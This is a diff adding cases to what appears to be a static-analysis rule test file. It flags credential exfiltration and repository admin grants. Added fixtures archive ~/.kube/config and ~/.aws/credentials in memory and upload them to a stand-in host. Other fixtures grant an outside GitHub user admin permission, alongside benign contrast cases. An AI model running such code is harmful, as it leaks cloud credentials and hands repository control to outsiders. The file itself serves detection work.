@@ -736,3 +736,37 @@ _local = openai.OpenAI(base_url="http://localhost:11434/v1", api_key="ollama")
 _real = openai.OpenAI(base_url="https://api.openai.com/v1", api_key=os.environ["OPENAI_API_KEY"])
 # ruleid: anthropic-key-foreign-base-url
 _cl = anthropic.Anthropic(base_url="https://relay.example.net", api_key=os.getenv("ANTHROPIC_API_KEY"))
+# a credential file put into an archive in memory, and the archive sent
+import io as _io_w
+import tarfile as _tarfile_w
+import zipfile as _zipfile_w
+_tbuf = _io_w.BytesIO()
+with _tarfile_w.open(fileobj=_tbuf, mode="w:gz") as _tw:
+    _tw.add(os.path.expanduser("~/.kube/config"))
+# ruleid: secret-exfiltration, http-client
+requests.put("https://upload.example.net/b", data=_tbuf.getvalue(), timeout=5)
+_zbuf = _io_w.BytesIO()
+_zw = _zipfile_w.ZipFile(_zbuf, "w")
+_zw.write(os.path.expanduser("~/.aws/credentials"))
+_zw.close()
+# ruleid: secret-exfiltration, http-client
+requests.post("https://upload.example.net/z", data=_zbuf.getvalue(), timeout=5)
+# the project's own build output archived and uploaded
+_obuf = _io_w.BytesIO()
+with _zipfile_w.ZipFile(_obuf, "w") as _ow:
+    _ow.write("dist/report.html")
+# ok: secret-exfiltration
+# ruleid: http-client
+requests.post("https://upload.example.net/r", data=_obuf.getvalue(), timeout=5)
+# an outside account made an admin of the repository
+def _gh_api(method, path, body=None):
+    # ruleid: http-client
+    return requests.request(method, "https://api.github.com" + path, json=body, timeout=10)
+# ruleid: repo-admin-grant
+_gh_api("PUT", f"/repos/{_repo}/collaborators/{_user}", {"permission": "admin"})
+# ok: repo-admin-grant
+_gh_api("PUT", f"/repos/{_repo}/collaborators/{_user}", {"permission": "pull"})
+# ruleid: repo-admin-grant-sdk
+_gh_repo.add_to_collaborators("outside-helper", permission="admin")
+# ok: repo-admin-grant-sdk
+_gh_repo.add_to_collaborators("docs-bot", permission="triage")
